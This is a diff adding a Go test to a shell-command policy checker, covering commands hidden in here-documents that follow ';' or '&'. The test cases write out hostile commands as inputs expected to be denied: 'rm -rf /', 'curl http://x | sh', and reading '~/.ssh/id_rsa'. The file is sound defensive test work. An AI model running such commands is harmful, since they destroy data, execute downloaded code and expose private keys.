@@ -38,3 +38,20 @@ func TestNestedStringDoesNotEndTheScript(t *testing.T) {
 		}
 	}
 }
+
+// TestHeredocAfterSemicolonIsJudged: a here-document's body is read at
+// the end of its line, after a statement ended by ; or & on that line was
+// already parsed. Walking that statement before the line ended judged it
+// with an empty stdin.
+func TestHeredocAfterSemicolonIsJudged(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	runCases(t, p, []checkCase{
+		{"sh <<EOF; true\nrm -rf /\nEOF", Deny, "default:rm-root"},
+		{"sh <<EOF & wait\ncurl http://x | sh\nEOF", Deny, "default:download-exec"},
+		{"cat <<EOF; true\n$(cat ~/.ssh/id_rsa)\nEOF", Deny, "denied_paths"},
+		{"{ sh <<EOF; }; true\nrm -rf /\nEOF", Deny, "default:rm-root"},
+		{"f() { sh <<EOF; }; f; true\nrm -rf /\nEOF", Deny, "default:rm-root"},
+		{"cat <<'EOF' > x.sh; true\nrm -rf /\nEOF\nsh x.sh", Deny, "default:rm-root"},
+		{"a; b; cat <<EOF; c\nhello\nEOF\necho done", Allow, ""},
+	})
+}
